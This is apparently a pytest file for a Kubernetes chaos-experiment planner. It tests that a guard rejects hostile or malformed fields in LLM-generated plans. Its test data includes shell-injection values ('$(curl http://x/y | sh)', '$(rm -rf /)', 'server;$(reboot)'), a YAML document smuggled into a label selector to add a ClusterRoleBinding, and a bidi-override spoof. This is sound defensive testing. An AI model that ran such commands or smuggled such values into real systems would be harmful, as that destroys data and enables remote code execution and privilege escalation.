"""Issue 13: every field a model writes is checked, through each real SDK against its local fake server.

Each hostile answer is refused (or repaired) with the rule named, and whatever reaches the plan passes its schema.
"""

from __future__ import annotations

import copy
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from test_llm_providers import Run

from chaos_suggest import core
from chaos_suggest.llm.guard import Guard
from chaosgen.llm.providers import ProviderFailure
from chaosgen.policy import load_policy, scaled_away_percent, violations
from conftest import REPO
from fakes import PROTOCOLS, Reply, answers


def changed(**paths: Any) -> dict[str, Any]:
    return answers._changed(answers.api_memory_hog(), **paths)


def threshold(**fields: Any) -> list[dict[str, Any]]:
    return [{**answers.api_memory_hog()["abort_thresholds"][0], **fields}]


HOSTILE: dict[str, tuple[str, Any]] = {
    "node not the target's": ("unknown-node", answers._changed(
        answers.postgres_pod_delete(), fault={"type": "node-drain"}, parameters={"duration": "30s"},
        target__node="control-plane-0")),
    "scale to zero": ("max-pods-affected", changed(
        fault={"type": "pod-autoscaler"}, parameters={"duration": "5m", "replica_count": 0},
        blast_radius__pods_affected_percent=0, blast_radius__max_pods=0)),
    "24h abort window": ("abort-window-too-long", changed(abort_thresholds=threshold(**{"for": "24h"}))),
    "SQL as PromQL": ("invalid-promql", changed(abort_thresholds=threshold(query="SELECT count(*) FROM requests"))),
    "shell as PromQL": ("invalid-promql", changed(abort_thresholds=threshold(query="$(curl http://x/y | sh)"))),
    "newline namespace": ("schema", changed(blast_radius__namespaces=["kube-system\n"])),
    "shell in the title": ("unsafe-text", changed(title="Exhaust $(rm -rf /) memory")),
    "backticks in the hypothesis": ("unsafe-text", changed(hypothesis="it `reboot`s")),
    "bidi override in the summary": ("unsafe-text", changed(rationale__summary="safe \u202egnp.exe")),
    "YAML document in a probe selector": ("schema", changed(steady_state=[{
        "name": "api-pods", "type": "k8s", "resource": "pods", "namespace": "shop",
        "label_selector": "app=api\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding",
        "operation": "present"}])),
    "probe on another workload": ("probe-not-target", changed(steady_state=[{
        "name": "pg-pods", "type": "k8s", "resource": "pods", "namespace": "shop", "label_selector": "app=postgres",
        "operation": "present"}])),
    "shell in the container": ("schema", changed(parameters__container="server;$(reboot)")),
    "container the target lacks": ("unknown-container", changed(parameters__container="sidecar")),
    "memory past the catalogue": ("schema", changed(parameters__memory_mb=10**6)),
}


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_each_hostile_field_is_refused_naming_its_rule(protocol: str, case: str, tmp_path: Path) -> None:
    rule, experiment = HOSTILE[case]
    reply = Reply(answers.plan(answers.postgres_pod_delete(), experiment))
    run = Run(protocol, [reply], tmp_path, no_fallback=True)
    assert run.error is None
    assert [e["target"]["workload"] for e in run.experiments] == ["shop/StatefulSet/postgres"]
    assert any(f"rule {rule}:" in warning for warning in run.warnings), run.warnings
    run.assert_all_safe()


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_non_finite_numbers_are_refused_then_repaired(protocol: str, number: str, tmp_path: Path) -> None:
    text = json.dumps(answers.valid_plan()).replace('"value": 0.5', f'"value": {number}', 1)
    run = Run(protocol, [Reply(text), Reply(answers.valid_plan())], tmp_path, no_fallback=True)
    assert run.error is None and len(run.experiments) == 3
    assert any("rule non-finite-number" in warning for warning in run.warnings), run.warnings
    run.assert_all_safe()


MALFORMED = {
    "HTML": (Reply(wire="<html><body>Sign in</body></html>", content_type="text/html"), "HTML"),
    "not JSON": (Reply(wire="upstream says hi", content_type="text/plain"), ""),
    "a list": (Reply(wire="[1, 2, 3]"), ""),
    "a choice without a message": (Reply(wire=json.dumps({
        "choices": [{"index": 0}], "candidates": [{"index": 0, "content": {"parts": [{"text": 7}]}}],
        "content": [{"type": "tool_use", "name": "experiment_plan", "input": 7}]})), ""),
    "content that is a number": (Reply(wire=json.dumps({
        "choices": [{"message": {"role": "assistant", "content": 5}}], "candidates": [{"content": {"parts": [{"text": 5}]}}],
        "content": [{"type": "text", "text": 5}]})), ""),
    "content that is an object": (Reply(wire=json.dumps({
        "choices": [{"message": {"role": "assistant", "content": {"a": 1}}}], "candidates": [{"content": {"parts": {"a": 1}}}],
        "content": [{"type": "tool_use", "name": "experiment_plan", "input": [1]}]})), ""),
}


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_replies_are_exit_4_naming_the_provider_or_fall_back(protocol: str, case: str, tmp_path: Path) -> None:
    reply, says = MALFORMED[case]
    strict = Run(protocol, [reply], tmp_path / "strict", max_retries=0, no_fallback=True)
    assert isinstance(strict.error, ProviderFailure), strict.error
    assert strict.error.exit_code == 4 and str(strict.error).startswith(f"{protocol} (")
    if protocol != "gemini":  # google-genai parses the body itself: its error names a JSON decode failure instead
        assert says in str(strict.error)
    fallback = Run(protocol, [reply], tmp_path / "fallback", max_retries=0)
    assert fallback.error is None and set(fallback.generators) == {"builtin"}
    assert any("the builtin planner plans instead" in warning for warning in fallback.warnings)


def test_html_is_named_as_such_for_openai(tmp_path: Path) -> None:
    run = Run("openai", [MALFORMED["HTML"][0]], tmp_path, max_retries=0, no_fallback=True)
    assert "the server answered with HTTP 200 and HTML, not a chat completion" in str(run.error)


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_a_huge_answer_gives_few_warnings_and_a_bounded_repair_request(protocol: str, tmp_path: Path) -> None:
    bad = changed(abort_thresholds=[])
    huge = answers.plan(*[bad] * 5000)
    run = Run(protocol, [Reply(huge), Reply(answers.valid_plan())], tmp_path, no_fallback=True)
    assert run.error is None and len(run.experiments) == 3
    assert len(run.warnings) <= 15
    assert any("4,980 more experiments dropped: over the requested count" in w for w in run.warnings), run.warnings
    assert len(json.dumps(run.server.requests[1].body)) < len(json.dumps(run.server.requests[0].body)) + 60_000


def test_scaling_below_the_current_replicas_counts_as_pods_removed() -> None:
    experiment = answers._changed(
        answers.frontend_latency(), fault={"type": "pod-autoscaler"}, parameters={"duration": "1m", "replica_count": 1},
        blast_radius__pods_affected_percent=0, blast_radius__max_pods=0)
    known = {"shop/Deployment/frontend"}
    assert scaled_away_percent(1, 3) == 67 and scaled_away_percent(0, None) == 100 and scaled_away_percent(5, 3) == 0
    assert "max-pods-affected" in {rule for rule, _ in violations(experiment, load_policy(None), known, {"shop/Deployment/frontend": 3})}
    assert "max-pods-affected" not in {
        rule for rule, _ in violations(experiment, load_policy(None), known, {"shop/Deployment/frontend": 2})
    }


# The built-in planner passes its own guard.

def _inventory(manifest: Path) -> dict[str, Any]:
    result = subprocess.run(["chaos-inventory", "-f", str(manifest)], capture_output=True, check=True)
    return json.loads(result.stdout)


def _benchmark_topology(tmp_path: Path) -> dict[str, Any]:
    manifest = tmp_path / "bench.yaml"
    subprocess.run(["python3", str(REPO / "benchmarks" / "gen_manifest.py"), "--workloads", "300", "-o", str(manifest)],
                   check=True, capture_output=True)
    return _inventory(manifest)


def _topologies(tmp_path: Path) -> dict[str, dict[str, Any]]:
    found = {path.name: json.loads(path.read_text()) for path in sorted((REPO / "tests" / "golden" / "suggest").glob("*.topology.json"))}
    found["3tier-app.yaml"] = _inventory(REPO / "k8s" / "3tier-app.yaml")
    found["benchmark"] = _benchmark_topology(tmp_path)
    return found


def test_every_builtin_plan_passes_the_guard(tmp_path: Path) -> None:
    policy = load_policy(None)
    for name, topology in _topologies(tmp_path).items():
        experiments = core.plan_builtin(topology, policy, policy["max_experiments"])
        assert experiments, name
        guard = Guard(topology, policy, "llm:test/model")
        verdict = guard.check([{k: v for k, v in copy.deepcopy(e).items() if k != "generator"} for e in experiments])
        assert verdict.rejected == [], (name, [(r.label, r.problems) for r in verdict.rejected])


def test_a_model_node_drain_gets_its_litmus_node_from_the_topology() -> None:
    """The model names the node to drain; where Litmus's own pods run is a Topology fact the guard fills in."""
    topology = answers.topology()
    for workload, nodes in zip(topology["workloads"], (["node-a"], ["node-b"], ["node-c"]), strict=False):
        workload["runtime"] = {**workload.get("runtime", {}), "nodes": nodes}
    postgres = next(w for w in topology["workloads"] if w["name"] == "postgres")
    drain = answers._changed(answers.postgres_pod_delete(), fault={"type": "node-drain"},
                             parameters={"duration": "30s"}, target__node=postgres["runtime"]["nodes"][0])
    guard = Guard(topology, load_policy(None), "llm:openai/test-model")
    verdict = guard.check([drain])
    assert verdict.clean
    assert verdict.accepted[0]["target"]["litmus_node"] not in (None, postgres["runtime"]["nodes"][0])
    made_up = answers._changed(drain, target__litmus_node="control-plane-0")
    assert "unknown-node" in {p.rule for r in guard.check([made_up]).rejected for p in r.problems}


def test_a_first_label_fault_on_a_shared_first_label_is_rejected() -> None:
    """node-drain and pod-autoscaler aim by the first label only: a label other workloads carry too widens them."""
    topology = answers.topology()
    for workload in topology["workloads"]:
        workload["labels"]["part-of"] = "shop"
    api = next(w for w in topology["workloads"] if w["name"] == "api")
    scale = changed(fault={"type": "pod-autoscaler"}, parameters={"duration": "1m", "replica_count": api["replicas"] + 1},
                    blast_radius__pods_affected_percent=0, blast_radius__max_pods=0,
                    target__label_selector="part-of=shop,app=api")
    verdict = Guard(topology, load_policy(None), "llm:openai/test-model").check([scale])
    assert "first-label-not-unique" in {p.rule for r in verdict.rejected for p in r.problems}
